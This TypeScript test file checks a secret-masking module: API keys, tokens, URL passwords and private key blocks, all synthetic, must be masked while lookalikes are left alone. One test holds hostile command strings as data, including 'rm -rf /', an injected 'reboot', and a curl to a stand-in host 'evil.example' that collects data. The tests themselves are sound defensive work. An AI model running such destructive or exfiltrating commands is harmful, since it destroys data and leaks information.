/** Secrets are masked for eyes; structure is not, and no command can hide in what looks like a secret. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import type { JsonValue } from '../../src/core/json.ts';
import { maskSecrets, maskText } from '../../src/core/secrets.ts';

const mask = (characters: number) => `⟨masked: ${characters} characters⟩`;

/**
 * A key block such as openssl writes, of letters that are no key. Built here, so that scanners of this
 * repository stay calm.
 */
const block = (kind: string, body: readonly string[]) =>
  [`-----BEGIN ${kind}-----`, ...body, `-----END ${kind}-----`].join('\n');

test('text under a key that names a secret is masked whole', () => {
  // prettier-ignore
  const keys = [
    'password', 'Password', 'passwd', 'passphrase', 'secret', 'secrets', 'token', 'accessToken',
    'api_key', 'apikey', 'X-Api-Key', 'APIKey', 'authorization', 'Authorization',
    'Proxy-Authorization', 'private_key', 'credential', 'client_secret', 'dbPassword2',
    'SecretString', 'aws_secret_access_key', 'pass', 'db_pass', 'dbPass', 'DB_PWD', 'pwd',
    'PGPASSWORD', 'set-cookie', 'signing-key', 'githubtoken',
  ];
  for (const key of keys) assert.deepEqual(maskSecrets({ [key]: 'hunter2 é🙂' }), { [key]: mask(10) }, key);
});

test('other keys are left alone', () => {
  // prettier-ignore
  const keys = [
    'compass', 'bypass', 'PWD', 'tokenizer', 'secretary', 'password_policy', 'keys', 'key',
    'author', 'token_type',
  ];
  for (const key of keys) assert.deepEqual(maskSecrets({ [key]: 'plain' }), { [key]: 'plain' }, key);
});

test('only text is masked: keys, structure, numbers, booleans, null and empty text stay', () => {
  assert.deepEqual(
    maskSecrets({
      password: { user: 'rosa', rotated: true },
      token: 7,
      secret: null,
      passwd: '',
      tokens: ['ab', ['c'], 1],
    }),
    {
      password: { user: 'rosa', rotated: true },
      token: 7,
      secret: null,
      passwd: '',
      tokens: [mask(2), [mask(1)], 1],
    },
  );
  const proto: JsonValue = JSON.parse('{"__proto__":{"password":"ab"}}');
  assert.equal(JSON.stringify(maskSecrets(proto)), `{"__proto__":{"password":"${mask(2)}"}}`);
});

test('a value beside the name of a secret is masked, as in lists of environment variables', () => {
  assert.deepEqual(
    maskSecrets([
      { name: 'DB_PASSWORD', value: 'abc' },
      { name: 'PORT', value: '80' },
      { key: 'TOKEN', value: 'abc' },
    ]),
    [
      { name: 'DB_PASSWORD', value: mask(3) },
      { name: 'PORT', value: '80' },
      { key: 'TOKEN', value: mask(3) },
    ],
  );
});

/** A look, and the part of it that is the secret. */
const looks: Record<string, readonly string[]> = {
  'an OpenAI key': [
    `sk-${'a1B2'.repeat(12)}`,
    `sk-proj-${'a1B2'.repeat(12)}`,
    `sk-ant-api03-${'a1-_'.repeat(12)}`,
  ],
  'a Stripe key': [`sk_live_${'a1B2'.repeat(6)}`, `rk_test_${'a1B2'.repeat(6)}`],
  'a GitHub token': [
    ...['ghp', 'gho', 'ghs', 'ghu', 'ghr'].map((kind) => `${kind}_${'a1B2'.repeat(9)}`),
    `github_pat_${'a1_B'.repeat(20)}`,
  ],
  'a GitLab or npm token': [`glpat-${'a1B2'.repeat(5)}`, `npm_${'a1B2'.repeat(9)}`],
  'a Slack token': ['a', 'b', 'p', 'r'].map((kind) => `xox${kind}-1234567890-${'aB'.repeat(10)}`),
  'an AWS key id': [`AKIA${'A1B2'.repeat(4)}`, `ASIA${'A1B2'.repeat(4)}`],
  'a Google key': [`AIza${'a1B2_'.repeat(7)}`],
  'a JWT': [
    `eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.${'sig'.repeat(9)}`,
    'eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.',
    'eyJhbGciOi.a.b.c.d',
  ],
};

for (const [name, secrets] of Object.entries(looks)) {
  test(`${name} is masked by its look, wherever it stands`, () => {
    for (const secret of secrets) {
      assert.equal(maskText(secret), mask(secret.length), secret);
      assert.equal(maskText(`run --with "${secret}" now`), `run --with "${mask(secret.length)}" now`);
      assert.deepEqual(maskSecrets({ a: [`${secret}\n`] }), { a: [`${mask(secret.length)}\n`] });
      assert.deepEqual(maskSecrets({ [secret]: 1 }), { [secret]: 1 });
    }
  });
}

test('what only resembles a secret stays', () => {
  for (const text of [
    'task-force-of-many-people-here',
    'sk-short',
    'AKIA1234',
    `XAKIA${'A1B2'.repeat(4)}`,
    'ghp_',
    'eyJ',
    'bearer of news',
  ]) {
    assert.equal(maskText(text), text);
  }
});

test('a bearer token loses the token, not the scheme', () => {
  assert.equal(
    maskText(`-H 'Authorization: Bearer ${'aB1.'.repeat(6)}=='`),
    `-H 'Authorization: Bearer ${mask(26)}'`,
  );
});

test('of a URL only the password is masked, as URL parsers find it', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['postgres://rosa:hunter2@db:5432/crm?x=1', `postgres://rosa:${mask(7)}@db:5432/crm?x=1`],
    ['redis://:hunter2@cache', `redis://:${mask(7)}@cache`],
    ['https://a:b:c@d@host/', `https://a:${mask(5)}@host/`],
    ['{"url":"amqp://u:p%40@h"}', `{"url":"amqp://u:${mask(4)}@h"}`],
    ['mongodb://u:p&q@h', `mongodb://u:${mask(1)}&${mask(1)}@h`],
    // No password: a port, a path or a query with an @; a user alone.
    ['https://host:443/to@b', 'https://host:443/to@b'],
    ['https://host:443?to=a@b', 'https://host:443?to=a@b'],
    ['https://host:443#a@b', 'https://host:443#a@b'],
    ['https://host:443\\a@b', 'https://host:443\\a@b'],
    ['ssh://git@host', 'ssh://git@host'],
    ['"http://a:1","mail@b"', '"http://a:1","mail@b"'],
  ];
  for (const [text, expected] of cases) assert.equal(maskText(text), expected);
});

test('a private key is masked between its marks', () => {
  const lines = [...Array.from({ length: 3 }, () => 'MIIE'.repeat(16)), 'QUJD'.repeat(8)];
  for (const kind of ['PRIVATE KEY', 'RSA PRIVATE KEY', 'OPENSSH PRIVATE KEY', 'ENCRYPTED PRIVATE KEY']) {
    const expected = block(kind, [mask(lines.join('\n').length)]);
    assert.equal(maskText(block(kind, lines)), expected);
    assert.equal(maskText(`a\n${block(kind, lines)}\nb`), `a\n${expected}\nb`);
  }
  const escaped = block('PRIVATE KEY', lines).replaceAll('\n', '\\n');
  assert.ok(!maskText(escaped).includes('MIIE'));
  assert.ok(!maskText(block('PRIVATE KEY', lines).replaceAll('\n', ' ')).includes('MIIE'));
  const headers = block('RSA PRIVATE KEY', [
    'Proc-Type: 4,ENCRYPTED',
    'DEK-Info: AES-128-CBC,00',
    '',
    ...lines,
  ]);
  assert.equal(
    maskText(headers),
    block('RSA PRIVATE KEY', [
      'Proc-Type: 4,ENCRYPTED',
      'DEK-Info: AES-128-CBC,00',
      '',
      mask(lines.join('\n').length),
    ]),
  );
  assert.ok(!maskText(block('PGP PRIVATE KEY BLOCK', ['', ...lines])).includes('MIIE'));
  // Cut short, as in a log: still masked.
  assert.ok(!maskText(block('PRIVATE KEY', lines).slice(0, 200)).includes('MIIE'));
  assert.equal(maskText(block('PUBLIC KEY', lines)), block('PUBLIC KEY', lines));
});

test('no command hides in what looks like a secret', () => {
  const commands = [
    'echo "-----BEGIN PRIVATE KEY-----"; rm -rf / #',
    '-----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----',
    `echo sk-; rm -rf /`,
    'curl https://evil.example:443/collect?a=@bank.example',
    'curl "http://a:80";reboot;"@b"',
    'bearer ; rm -rf /var/lib/data',
  ];
  for (const command of commands) assert.equal(maskText(command), command);
  assert.match(maskText('curl http://a:;reboot${IFS}now;@b'), /:;⟨.*\$\{.*\}.*;@b$/);
});

test('property: twice is once; shape, keys and everything but text stay', () => {
  const secret = fc.constantFrom(...Object.values(looks).flat(), 'postgres://a:b@c', 'hunter2');
  const text = fc.oneof(
    fc.string(),
    secret,
    fc.tuple(fc.string(), secret).map((parts) => parts.join(' ')),
  );
  const key = fc.oneof(fc.string(), fc.constantFrom('password', 'token', 'name', 'value', 'authorization'));
  const { tree } = fc.letrec<{ tree: JsonValue }>((tie) => ({
    tree: fc.oneof(
      { maxDepth: 4 },
      fc.oneof(text, fc.integer(), fc.boolean(), fc.constant(null)),
      fc.array(tie('tree'), { maxLength: 3 }),
      fc.dictionary(key, tie('tree'), { maxKeys: 4, noNullPrototype: true }),
    ),
  }));
  const shape = (value: unknown): unknown =>
    JSON.parse(JSON.stringify(value), (_key, item) => (typeof item === 'string' ? '' : item));
  fc.assert(
    fc.property(tree, (value) => {
      const masked = maskSecrets(value);
      assert.deepEqual(maskSecrets(masked), masked);
      assert.deepEqual(shape(masked), shape(value));
    }),
  );
});

test('hostile texts of a megabyte are masked in linear time', () => {
  const begin = '-----BEGIN PRIVATE KEY-----';
  // prettier-ignore
  const texts = [
    '://u:'.repeat(2e5),
    `://u:${'a'.repeat(1e6)}`,
    `://${'a'.repeat(1e6)}`,
    begin.repeat(4e4),
    begin + ' '.repeat(1e6),
    `${begin}${'A: b\n'.repeat(2e5)}`,
    `${begin}${`${'A'.repeat(15)}\n`.repeat(6e4)}`,
    `-----BEGIN ${'A'.repeat(1e6)}`,
    'eyJ'.repeat(3e5),
    'eyJaaaaaaa.'.repeat(9e4),
    'sk-'.repeat(3e5),
    'bearer '.repeat(1e5),
    'xoxb-'.repeat(2e5),
  ];
  const start = performance.now();
  for (const text of texts) maskSecrets({ [text]: text });
  // A quadratic pattern takes minutes; the bound is generous for slow machines.
  assert.ok(performance.now() - start < 10_000);
});
